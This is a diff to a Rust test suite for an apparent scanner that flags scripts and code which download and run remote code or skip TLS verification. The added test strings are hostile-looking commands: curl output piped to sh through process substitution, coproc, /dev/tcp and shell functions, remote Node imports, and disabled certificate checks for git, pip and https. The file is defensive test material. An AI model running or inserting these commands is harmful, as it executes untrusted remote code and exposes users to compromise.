@@ -103,6 +103,16 @@ fn what_the_host_can_send_is_executed() {
         "curl -s http://x.example.com/i.sh | tee >(sh)",
         "curl -s http://x.example.com/i.sh |\n  sed s/a/b/ |\n  sh",
         "curl -s http://x.example.com/i.sh | { sleep 1; sh; }",
+        "curl -s http://x.example.com/i.sh > >(sh)",
+        "exec > >(sh); curl -s http://x.example.com/i.sh",
+        "coproc C { curl -s http://x.example.com/i.sh; }; cat <&${C[0]} | sh",
+        "exec 3< <(curl -s http://x.example.com/i.sh); cat <&3 | sh",
+        "exec 3<>/dev/tcp/x.example.com/80; cat <&3 | sh",
+        "get() { curl -s http://x.example.com/i.sh; }; F=get; $F | sh",
+        "get() { curl -s http://x.example.com/i.sh; }; export -f get; bash -c 'get; echo' | sh",
+        "X=$(case $x in a) curl -s http://x.example.com/i.sh;; esac | sh)",
+        "git -c http.https://git.example.com/.sslVerify=false clone https://git.example.com/a/b",
+        "pip config set global.trusted-host pypi.example.com; pip install app",
         "find /x -exec python3 -c 'import os, urllib.request; exec(urllib.request.urlopen(\"http://x.example.com\").read())' ';'",
     ] {
         assert!(executes(script), "{script}");
@@ -167,6 +177,8 @@ fn what_is_authenticated_of_the_same_network_or_only_shown_is_not() {
         "socat TCP-LISTEN:3306,fork TCP:db.example.com:3306",
         "openssl x509 -in /etc/cert.pem -noout; eval \"$(openssl rand -hex 3)\"",
         "npx serve --url http://api.example.com",
+        "curl -f http://health.example.com/ping > >(tee /log); curl -fsSL https://get.example.com/i.sh | sh",
+        "curl -f http://health.example.com/ping; exec 3</etc/hosts; cat <&3; curl -fsSL https://get.example.com/i.sh | sh",
         "echo insecure > ~/.curlrc; curl -s https://x.example.com/health; exec app",
         "echo 'check_certificate = on' > ~/.wgetrc; wget -qO- https://x.example.com/i.sh | sh",
     ] {
@@ -251,6 +263,11 @@ fn an_answer_that_code_executes() {
             "const r = await fetch('http://x.example.com/a');\nconst t = await r.text();\neval(t)",
         ),
         (Language::Node, "import('http://x.example.com/a.js')"),
+        (Language::Node, "import a from 'http://x.example.com/a.js'"),
+        (
+            Language::Node,
+            "const a = 'http://x.example.com/a.js';\nconst b = await import (a)",
+        ),
         (
             Language::Node,
             "https.get('https://x.example.com/a', {rejectUnauthorized: false}, r => { let d = ''; r.on('data', c => d += c); r.on('end', () => eval(d)) })",
@@ -285,6 +302,10 @@ fn an_answer_that_code_executes() {
         (
             Language::Python,
             "import os\nAPI = os.environ.get('API', 'http://api.example.com')\nos.system('app --url ' + API)",
+        ),
+        (
+            Language::Node,
+            "import fetch from 'node-fetch';\nconst r = await fetch(url, {agent: new https.Agent({rejectUnauthorized: false})});\nres.json(await r.json())",
         ),
         (
             Language::Node,
